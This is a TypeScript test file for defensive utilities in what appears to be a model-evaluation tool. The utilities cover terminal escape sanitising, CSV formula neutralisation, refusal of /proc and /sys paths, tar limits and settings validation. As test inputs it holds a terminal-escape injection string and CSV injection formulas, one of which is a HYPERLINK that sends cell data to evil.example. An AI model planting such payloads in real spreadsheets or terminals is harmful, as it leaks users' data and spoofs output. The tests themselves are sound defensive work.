// Text from servers and models is data: the one terminal sanitiser, the one CSV writer (formula cells
// neutralised as OWASP's "CSV Injection" page recommends), the one path check, the bundle settings
// check, and tar limits.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { forTerminal } from '../../src/util/terminal-text.js';
import { csvText, neutraliseCell } from '../../src/util/csv.js';
import { checkOutputFile, checkReadableFile, checkWritableDir } from '../../src/util/safe-path.js';
import { tarPack, tarUnpack } from '../../src/util/tar.js';
import { bundleSettings } from '../../src/run/bundle-settings.js';
import { llmCliOptions } from '../../src/llm/config.js';
import { runOptions } from '../../src/run/options.js';
import { wikiCliOptions } from '../../src/envs/wikipedia/index.js';
import { labelsToCsv, parseLabelsCsv } from '../../src/report/error-tags.js';
import { summaryCsv } from '../../src/run/summary.js';
import type { OptionTable } from '../../src/options.js';

describe('forTerminal', () => {
  it("makes escape sequences, CR, BEL, DEL and bidi controls visible; keeps text, tabs, newlines and the prompts' mojibake", () => {
    const evil = '\x1b]0;pwned\x07\x1b[2J\rALL GOOD\x7f\u202eevil\u2066 ok\tnext\nline é 日本 1898 â\x80\x93 1924';
    const out = forTerminal(evil);
    expect(out).toBe('\\x1b]0;pwned\\x07\\x1b[2J\\rALL GOOD\\x7f\\u202eevil\\u2066 ok\tnext\nline é 日本 1898 â\x80\x93 1924');
    expect(out).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(forTerminal('a\nb', { oneLine: true })).toBe('a\\nb');
    expect(forTerminal('plain text: Search[Colorado orogeny]')).toBe('plain text: Search[Colorado orogeny]');
  });
});

describe('CSV cells a spreadsheet would evaluate', () => {
  it('prefixes = + - @ tab CR strings with a quote and quotes the cell; numbers and numeric strings stay', () => {
    expect(neutraliseCell('=HYPERLINK("http://e.x/?"&A1,"click")')).toBe(`'=HYPERLINK("http://e.x/?"&A1,"click")`);
    for (const s of ['+cmd', '-2+3', '@SUM(A1)', '\tx', '\rx']) expect(neutraliseCell(s)).toBe(`'${s}`);
    for (const v of [-0.5, 3, '-0.5', '+2.1', '-12%', '1e-3', 'plain', '', 'a=b']) expect(neutraliseCell(v)).toBe(v);
    const text = csvText([['=1+1', -0.5, '-0.5', 'x,y']], { header: ['a', 'b', 'c', 'd'] });
    expect(text).toBe(`a,b,c,d\n"'=1+1",-0.5,-0.5,"x,y"\n`);
  });

  it('the label sheet and summary.csv write a model answer that is a formula as text', () => {
    const answer = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const sheet = labelsToCsv(
      [
        {
          run: 'r1',
          method: 'react',
          idx: 3,
          outcome: 'incorrect',
          label: '',
          auto_tags: [],
          note: '',
          answer,
          question: '@q',
          gold: '-1',
        },
      ],
      { sheet: true },
    );
    expect(sheet).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(sheet).toContain(`"'@q"`);
    expect(sheet).toMatch(/,-1,/);
    expect(sheet.split('\n').some((l) => l.split(',').some((c) => /^=/.test(c)))).toBe(false);
    // the sheet still reads back
    expect(parseLabelsCsv(sheet, 'labels.csv')[0]).toMatchObject({ run: 'r1', idx: 3, outcome: 'incorrect' });
    const summary = summaryCsv([
      {
        runId: '=cmd',
        task: 't',
        method: 'm',
        split: 's',
        model: '+x',
        shard: null,
        n_planned: 1,
        n_done: 1,
        n_scored: 1,
        n_errors: 0,
        metrics: { em: -0.5 },
        n_calls: 1,
        prompt_tokens: 1,
        completion_tokens: 1,
        total_tokens: 2,
        cost_usd: 0,
        cached_calls: 0,
        spent_tokens: 2,
        spent_cost_usd: 0,
      } as never,
    ]);
    expect(summary.split('\n')[1]).toMatch(/^"'=cmd",t,m,s,"'\+x",,1,1,1,0,-0\.5,/);
  });
});

describe('checkWritableDir / checkOutputFile', () => {
  const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'safe-path-'));
  it('refuses /proc and /sys at once, by path and through a symlink', () => {
    expect(() => checkWritableDir('/proc/1/x/y', '--results-dir')).toThrow(
      /^--results-dir: \/proc\/1\/x\/y is under \/proc, a kernel pseudo-filesystem/,
    );
    expect(() => checkWritableDir('/sys/kernel/x', 'merge --out')).toThrow(/is under \/sys/);
    const link = path.join(tmp, 'proc-link');
    fs.symlinkSync('/proc/self', link);
    expect(() => checkWritableDir(path.join(link, 'x'), 'REACT_REPRO_CACHE_DIR')).toThrow(/kernel pseudo-filesystem/);
    expect(() => checkOutputFile('/proc/1/r.md', '--out')).toThrow(/^--out: \/proc\/1\/r\.md is under \/proc/);
    expect(() => checkReadableFile('/proc/self/status', '--cache-path')).toThrow(/pseudo-filesystem/);
  });
  it('a file in the way, a missing folder for --out, a folder named as a file', () => {
    const file = path.join(tmp, 'f');
    fs.writeFileSync(file, 'x');
    expect(() => checkWritableDir(file, 'merge --out')).toThrow(/is a file, not a folder/);
    expect(() => checkWritableDir(path.join(file, 'sub'), 'merge --out')).toThrow(/is a file, not a folder/);
    expect(() => checkOutputFile(path.join(tmp, 'missing', 'b.tar.gz'), 'bundle --out')).toThrow(/does not exist/);
    expect(() => checkOutputFile(tmp, '--out')).toThrow(/is a folder; name a file/);
    expect(checkOutputFile(path.join(tmp, 'ok.md'), '--out')).toBe(path.join(tmp, 'ok.md'));
    expect(checkWritableDir(path.join(tmp, 'a', 'b'), 'x', { create: true })).toBe(path.join(tmp, 'a', 'b'));
    expect(fs.statSync(path.join(tmp, 'a', 'b')).isDirectory()).toBe(true);
  });
});

describe('tar limits and bundle settings', () => {
  it('refuses a member larger than the cap and more members than allowed', () => {
    const tar = tarPack([
      { name: 'a', data: Buffer.alloc(2000) },
      { name: 'b', data: Buffer.from('x') },
      { name: 'c', data: Buffer.from('y') },
    ]);
    expect(() => tarUnpack(tar, 'b.tar', { memberBytes: 1000 })).toThrow(/member "a" is 2000 bytes, more than the 1000/);
    expect(() => tarUnpack(tar, 'b.tar', { members: 2 })).toThrow(/more than 2 members/);
    expect(tarUnpack(tar, 'b.tar', { members: 3, memberBytes: 2000 })).toHaveLength(3);
  });

  const table: OptionTable = {
    task: { type: 'string', describe: '' },
    method: { type: 'string', describe: '' },
    samples: { type: 'number', describe: '' },
    cache: { type: 'string', choices: ['rw', 'off', 'replay'], describe: '' },
    // The real declarations of the flags that name a file (OptionSpec.path, OptionSpec.inBundle).
    'cache-path': llmCliOptions['cache-path'],
    'results-dir': runOptions['results-dir'],
    wiki: wikiCliOptions.wiki,
    'base-url': { type: 'string', describe: '' },
  };
  it('unknown keys and wrong types are refused; paths are never taken', () => {
    expect(() => bundleSettings({ task: 'hotpotqa', plantMe: 1 }, table, 'b.tar.gz:runs/x/manifest.json')).toThrow(
      /unknown field "settings\.plantMe"/,
    );
    expect(() => bundleSettings({ samples: 'many' }, table, 'b')).toThrow(/settings\.samples: expected a number/);
    expect(() => bundleSettings({ cache: 'evil' }, table, 'b')).toThrow(/settings\.cache: expected one of rw, off, replay/);
    expect(
      bundleSettings(
        {
          task: 'hotpotqa',
          cachePath: '/tmp/elsewhere/c.sqlite',
          resultsDir: '/tmp/x',
          wiki: 'record:/tmp/elsewhere/rec.jsonl',
          baseUrl: ['http://a/v1', 'http://b/v1'],
          resume: 'x',
        },
        table,
        'b',
      ),
    ).toEqual({
      task: 'hotpotqa',
      wiki: 'live',
      baseUrl: ['http://a/v1', 'http://b/v1'],
    });
    expect(bundleSettings({ wiki: 'replay:/x.jsonl' }, table, 'b')).toEqual({});
  });
});
